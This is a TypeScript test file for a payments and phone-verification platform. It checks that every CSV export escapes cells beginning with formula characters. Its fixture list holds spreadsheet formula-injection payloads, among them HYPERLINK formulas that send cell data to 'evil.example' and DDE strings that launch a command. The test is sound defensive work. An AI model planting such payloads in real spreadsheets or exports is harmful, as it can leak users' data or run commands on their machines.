import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { csvHeader, csvRows, type Column } from '../../../../worker/platform/documents/csv';
import { toTables } from '../../../../worker/privacy/export/tables';
import { LEDGER_COLUMNS } from '../../../../worker/billing/ledger/ledger-csv';
import type { StatementLine } from '../../../../worker/billing/ledger/statement.service';
import { PAYMENT_COLUMNS } from '../../../../worker/billing/payments/payments-csv';
import type { Snapshot } from '../../../../worker/verifications/orders/snapshot';
import { VERIFICATION_COLUMNS } from '../../../../worker/verifications/orders/verifications-csv';
import type { AnnotatedPayment } from '../../../../worker/billing/payments/payment-annotations';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A2,"Your code is 123456")\nThanks',
  "=cmd|' /C calc'!A0\ncode 654321",
  '@SUM(1+1)\n',
  "-1+cmd|' /C calc'!A0\r\n",
  '+HYPERLINK("http://evil.example/?d="&A2,"code 222333")',
  '+12125550123',
  '\t=1+1',
  '\r\n=1+1',
  '\n=1+1',
  '＝1+1',
];
const RUNS = /^[=+\-@\t\r\n＝＋－＠]/;

const cellsOf = (csv: string): string[] =>
  Papa.parse<string[]>(csv, { delimiter: ',', newline: '\r\n' }).data.flat();

/** `row` with `text` in place of every text. */
const poisoned = <Row extends object>(row: Row, text: string): Row =>
  Object.fromEntries(
    Object.entries(row).map(([key, value]) => [key, typeof value === 'string' ? text : value]),
  ) as Row;

const LINE: StatementLine = {
  seq: 1,
  reference: 'ver_1',
  description: 'Verification',
  step: 'hold',
  account: 'available',
  amount: 1,
  moved: 1,
  balanceAfter: 1,
  at: 1,
};
// Only the fields that the columns read.
const PAYMENT = {
  id: 'pay_1',
  reference: 'ref',
  receipt: 1,
  purpose: 'topup',
  state: 'succeeded',
  reason: 'declined',
  currency: 'NGN',
  amount: 1,
  rateMicros: 1,
  rateSource: 'cbn',
  credits: 1,
  credited: 1,
  gone: 1,
  createdAt: 1,
  paidAt: 1,
  endedAt: 1,
  externalId: 'mine',
  metadata: { plan: 'gold' },
  card: { brand: 'visa', last4: '4081' },
} as unknown as AnnotatedPayment;

const ORDER = {
  id: 'ver_1',
  state: 'completed',
  reason: 'cancelled_by_customer',
  service: 'whatsapp',
  price: 1,
  number: '+12065550142',
  areaCodes: null,
  surcharge: { areaCode: 0 },
  externalId: 'mine',
  metadata: {},
  createdAt: 1,
  endedAt: 1,
  report: null,
} as unknown as Snapshot;
const sent = (text: string): Snapshot => ({
  ...poisoned(ORDER, text),
  messages: [{ id: 'msg_1', from: text, text, code: text, receivedAt: 1 }],
});

const written = <Row>(columns: readonly Column<Row>[], row: Row) =>
  csvHeader(columns) + csvRows(columns, [row]);

const exported = (text: string): string => {
  const files = toTables('t', [{ text, [text]: text, list: [text], n: -2, is: true, none: null }]);
  return new TextDecoder().decode(files['t.csv']);
};

const WRITERS: Readonly<Record<string, (text: string) => string>> = {
  'the ledger': (text) => written(LEDGER_COLUMNS, poisoned(LINE, text)),
  verifications: (text) => written(VERIFICATION_COLUMNS, sent(text)),
  payments: (text) => written(PAYMENT_COLUMNS, poisoned(PAYMENT, text)),
  'the account export': exported,
};

test.for(
  Object.entries(WRITERS).flatMap(([name, write]) =>
    HOSTILE.map((text) => ({ name, write, text })),
  ),
)('M4 no spreadsheet runs a cell of $name that holds $text', ({ write, text }) => {
  const cells = cellsOf(write(text));
  expect(cells).toContain(`'${text}`);
  expect(cells.filter((cell) => RUNS.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
});

test('M4 the account export keeps numbers, booleans and missing values unchanged', () => {
  expect(exported('a')).toBe('text,a,list,n,is,none\r\na,a,"[""a""]",-2,true,\r\n');
});

test('M4 the Worker has one writer of CSV', () => {
  const files = readdirSync('worker', { recursive: true, encoding: 'utf8' });
  const writers = files.filter(
    (file) =>
      file.endsWith('.ts') &&
      /papaparse|escapeFormulae/.test(readFileSync(join('worker', file), 'utf8')),
  );
  expect(writers).toEqual(['platform/documents/csv.ts']);
});
